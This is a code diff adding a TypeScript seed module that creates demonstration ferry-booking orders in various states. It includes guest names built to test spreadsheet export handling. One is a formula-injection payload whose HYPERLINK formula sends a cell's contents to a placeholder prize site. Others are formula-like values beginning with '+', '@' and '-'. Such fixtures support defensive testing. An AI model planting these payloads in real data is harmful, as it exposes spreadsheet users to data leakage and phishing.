@@ -1,0 +1,91 @@
+import type { Session } from '@gangway/shared/contract/vocabulary.ts';
+import { daysBetween } from '@gangway/shared/domain/local-date.ts';
+import { CHARTER_PLACES } from '../sailings.ts';
+import { type Buyer, buyerOf, customerNamed } from './buyers.ts';
+import { createOrder } from './create-order.ts';
+import type { Trade, Wish } from './draft.ts';
+import type { OpenSailing } from './open-sailings.ts';
+import { familyOfThree } from './party.ts';
+import type { OrderBatch } from './rows.ts';
+
+const MINUTE_MS = 60_000;
+
+interface Planned extends Omit<Wish, 'buyer' | 'heldSince'> {
+  username: string | null;
+  daysAhead: number;
+  session: Session;
+  /** For `held` ones. */
+  minutesAgo?: number;
+}
+
+const family = { username: 'family', pattern: familyOfThree } as const;
+const somebody = { username: null, session: 'daytime', story: 'kept' } as const;
+
+/** Orders in every state for the accounts of the demonstration, a few unpaid ones, and names that spreadsheets trip over. */
+const planned: readonly Planned[] = [
+  { ...family, daysAhead: 8, session: 'nighttime', story: 'kept', withCabin: true },
+  { ...family, daysAhead: -19, session: 'daytime', story: 'kept' },
+  { ...family, daysAhead: 75, session: 'nighttime', story: 'canceled', withCabin: true },
+  { ...family, daysAhead: 41, session: 'daytime', story: 'partly' },
+  { ...family, daysAhead: 16, session: 'daytime', story: 'expired' },
+  { ...family, daysAhead: 23, session: 'nighttime', story: 'held', withCabin: true, minutesAgo: 2 },
+  { username: 'jisoo', daysAhead: 13, session: 'nighttime', story: 'kept', withCabin: true },
+  { username: 'jisoo', daysAhead: -33, session: 'daytime', story: 'kept' },
+  { username: 'meilin', daysAhead: 6, session: 'daytime', story: 'held', minutesAgo: 4 },
+  { username: null, daysAhead: 3, session: 'nighttime', story: 'held', minutesAgo: 1 },
+  { username: null, daysAhead: 11, session: 'daytime', story: 'held', minutesAgo: 6 },
+  { ...somebody, daysAhead: -5, name: '=HYPERLINK("https://prizes.example/?"&A2,"Claim your prize")' },
+  { ...somebody, daysAhead: -9, name: '+60123456789' },
+  { ...somebody, daysAhead: 18, name: '@SUM(A1:A9)' },
+  { ...somebody, daysAhead: 27, name: '-2+3' },
+  { ...somebody, daysAhead: 5, name: '欧阳慧敏' },
+  { ...somebody, daysAhead: 12, name: '남궁민서' },
+];
+
+/** Makes the planned orders, and fills the sailings that a company has taken most of. */
+export function createDemonstrationOrders(
+  trade: Trade,
+  batch: OrderBatch,
+  sailings: readonly OpenSailing[],
+  now: Date,
+): void {
+  for (const { username, daysAhead, session, minutesAgo = 0, ...wish } of planned) {
+    const sailing = sailingNear(trade, sailings, daysAhead, session);
+    const heldSince = wish.story === 'held' ? new Date(now.getTime() - minutesAgo * MINUTE_MS) : undefined;
+    createOrder(trade, batch, sailing, { ...wish, buyer: buyerFor(trade, username), heldSince });
+  }
+  for (const sailing of sailings) {
+    if (sailing.capacity !== CHARTER_PLACES) continue;
+    while (sailing.placesLeft > 0) createOrder(trade, batch, sailing, { story: 'kept', withCabin: false });
+  }
+}
+
+function buyerFor({ people, settings }: Trade, username: string | null): Buyer {
+  const { houseReferralCode } = settings;
+  if (username) return buyerOf(customerNamed(people, username), houseReferralCode);
+  return {
+    channel: 'storefront',
+    actor: 'guest',
+    customer: null,
+    lead: undefined,
+    referralCode: houseReferralCode,
+  };
+}
+
+/** The ordinary sailing of a session that is nearest to so many days from today. */
+function sailingNear(
+  { today }: Trade,
+  sailings: readonly OpenSailing[],
+  daysAhead: number,
+  session: Session,
+): OpenSailing {
+  const distance = ({ date }: OpenSailing) => Math.abs(daysBetween(today, date) - daysAhead);
+  const [nearest] = sailings
+    .filter(sailing => sailing.session === session && !sailing.peak && !sailing.nonRefundable)
+    .filter(
+      sailing => sailing.status === (daysAhead < 0 ? 'departed' : 'scheduled') && sailing.placesLeft > 100,
+    )
+    .sort((a, b) => distance(a) - distance(b));
+  if (!nearest) throw new RangeError(`no ${session} sailing about ${daysAhead} days from today`);
+  return nearest;
+}
